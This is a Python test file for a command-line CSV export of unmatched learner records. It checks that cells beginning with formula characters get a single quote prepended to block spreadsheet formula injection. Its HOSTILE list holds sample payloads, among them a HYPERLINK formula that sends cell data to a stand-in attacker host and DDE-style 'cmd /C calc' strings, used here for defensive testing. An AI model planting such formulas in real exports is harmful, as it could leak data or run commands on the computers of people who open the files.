"""``partners-dagster unmatched --csv``: a cell a spreadsheet would run as a formula (OWASP's CSV
injection) is written with a single quote in front. An external id is whatever the learner
typed on FutureLearn, and support staff open the file in Excel."""

from __future__ import annotations

import csv
import uuid
from datetime import UTC, datetime

from click.testing import CliRunner

from partners_dagster.teachcomputing.engine import make_engine
from partners_dagster.teachcomputing.migrate import upgrade
from partners_dagster.teachcomputing.models import MembershipLookup
from partners_dagster.teachcomputing.schema import create_teachcomputing_tables
from partners_dagster.tools.cli import main
from partners_dagster.tools.unmatched import neutralise_formula

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["grace@new.example.org", "a-b@x.org", "not an email"]


def test_neutralise_formula_quotes_only_formula_starts():
    for value in HOSTILE:
        assert neutralise_formula(value) == "'" + value
    for value in [*HARMLESS, "", None, 3, -1]:
        assert neutralise_formula(value) == value


def test_unmatched_csv_neutralises_formula_cells(tmp_path):
    url = f"sqlite:///{tmp_path / 'tc.sqlite3'}"
    engine = make_engine(url)
    create_teachcomputing_tables(engine)
    upgrade(engine)
    now = datetime(2027, 3, 1, 2, 0, tzinfo=UTC)
    values = HOSTILE + HARMLESS
    with engine.begin() as connection:
        connection.execute(
            MembershipLookup.__table__.insert(),
            [
                {
                    "membership_uuid": str(uuid.uuid5(uuid.NAMESPACE_URL, f"csv/{i}")),
                    "status": "found",
                    "learner_uuid": str(uuid.uuid5(uuid.NAMESPACE_URL, f"learner/{i}")),
                    "external_learner_id": value,
                    "fetched_at": now,
                    "first_fetched_at": now,
                    "enrolments": 1,
                    "courses": 1,
                }
                for i, value in enumerate(values)
            ],
        )
    engine.dispose()
    out = tmp_path / "unmatched.csv"
    result = CliRunner().invoke(
        main, ["unmatched", "--show-emails", "--csv", str(out), "--database-url", url]
    )
    assert result.exit_code == 0, result.output
    with out.open(newline="") as handle:
        rows = list(csv.DictReader(handle))
    written = {row["external_learner_id"] for row in rows}
    assert written == {"'" + value for value in HOSTILE} | set(HARMLESS)
    for row in rows:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
